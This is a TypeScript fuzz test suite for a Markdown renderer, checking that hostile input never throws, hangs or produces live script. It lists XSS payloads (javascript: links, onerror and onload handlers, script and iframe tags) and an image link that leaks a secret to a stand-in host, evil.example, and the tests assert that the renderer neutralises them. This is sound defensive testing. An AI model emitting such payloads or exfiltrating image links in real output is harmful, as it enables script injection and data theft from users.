import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { MAX_TABLE_CELLS } from '../markdown/render.tsx'
import { renderMarkdown } from './spec-html.ts'

// Hostile Markdown: whatever a model, a tool or an injected web page writes, rendering never
// throws, never hangs, and never yields a live script, handler, frame or dangerous URL.

const nest = (open: string, depth: number, inner: string): string => open.repeat(depth) + inner
const table = (cols: number, rows: number): string => {
  const row = `|${' c |'.repeat(cols)}`
  return [row, `|${'---|'.repeat(cols)}`, ...Array.from({ length: rows }, () => row)].join('\n')
}
const piece = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom('[x](javascript:alert(1))', '[x](JAVASCRIPT:alert(1))', '[x](java\tscript:alert(1))', '[x](vbscript:msgbox)', '[x](data:text/html,<script>alert(1)</script>)', '![x](javascript:alert(1))', '<javascript:alert(1)>', '[r]: javascript:alert(1)\n\n[r]', '![i](https://evil.example/leak?q=secret)', '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<iframe src="https://evil.example">', '<a href="javascript:alert(1)">x</a>', '<svg onload=alert(1)>', '$\\href{javascript:alert(1)}{x}$', '$$\\url{javascript:alert(1)}$$', '```\nunclosed fence', '~~~js\n', '| a | b |\n|---|---|', '$$\n\\frac{1}{2}', '\\[', '- [ ] ', '> ', '***', '\n\n', '`', '**', '_', '~~', '$', '\\') },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom('>', '> ', '- ', '  - ', '1. ', '[', '*', '_', '`', '(', '!['), fc.integer({ min: 1, max: 200 })).map(([open, depth]) => nest(open, depth, 'deep')) },
  { weight: 1, arbitrary: fc.tuple(fc.integer({ min: 1, max: 16 }), fc.integer({ min: 1, max: 24 })).map(([cols, rows]) => table(cols, rows)) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('a*b_', '$a', '\\(a', '`a', '[a](', '~~a', '**a'), fc.integer({ min: 10, max: 150 })).map(([unit, n]) => unit.repeat(n)) },
)
/** A 1 MB line, now and then: the parser and the renderer must stay linear on it. */
const megabyteLine = fc.constantFrom('x', '*', '[', '`', '|', '<', '$', '\\').map((ch) => `${ch} ${'word '.repeat(200_000)}`)
/** A huge table (100 columns, 1,000 rows), now and then. */
const hugeTable = fc.constant(table(100, 1_000))
const document = fc.oneof(
  { weight: 1_500, arbitrary: fc.array(piece, { maxLength: 6 }).map((parts) => parts.join('\n')) },
  { weight: 1, arbitrary: megabyteLine },
  { weight: 1, arbitrary: hugeTable },
)

/** What no real tag may be: script, frames, handlers, URLs that run or load from elsewhere. */
const LIVE = [/^<(script|iframe|object|embed|style|link|meta|base|form)\b/i, /\son[a-z]+=/i, /(href|src)="\s*(javascript|vbscript|data:text)/i, /^<img[^>]*src="(https?:)?\/\//i, /srcdoc=/i]

/** The real tags in rendered HTML (text is escaped, so a `<` that starts a tag is markup). */
function tags(html: string): string[] {
  return html.match(/<[a-z][^>]*>/gi) ?? []
}

describe('hostile Markdown', () => {
  it('5,000 fuzzed inputs never throw, never hang, never produce a live script', () => {
    let slowest = 0
    fc.assert(
      fc.property(document, (text) => {
        const start = performance.now()
        const html = renderMarkdown(text)
        slowest = Math.max(slowest, performance.now() - start)
        for (const tag of tags(html)) {
          for (const pattern of LIVE) expect(tag, `${pattern} in output of ${JSON.stringify(text.slice(0, 200))}`).not.toMatch(pattern)
        }
      }),
      { numRuns: 5_000, seed: 20261130 },
    )
    // A hang would never get here; a quadratic blow-up on 1 MB would take seconds.
    expect(slowest).toBeLessThan(10_000)
  }, 600_000)

  it('draws at most MAX_TABLE_CELLS cells of a huge table and says how many rows it left out', () => {
    const html = renderMarkdown(table(100, 1_000))
    expect(html.match(/<td/g)).toHaveLength(MAX_TABLE_CELLS + 1)
    expect(html).toContain('… 900 more rows not shown')
  })

  it('keeps the text of an unsafe link and drops its target', () => {
    const html = renderMarkdown('[click](javascript:alert(1)) and <javascript:alert(1)>')
    expect(html).not.toContain('<a')
    expect(html).toContain('click')
  })

  it('shows a remote image as a link, never loads it', () => {
    const html = renderMarkdown('![chart](https://evil.example/leak?q=secret)')
    expect(html).not.toContain('<img')
    expect(html).toContain('<a href="https://evil.example/leak?q=secret" target="_blank" rel="noopener noreferrer"')
  })
})
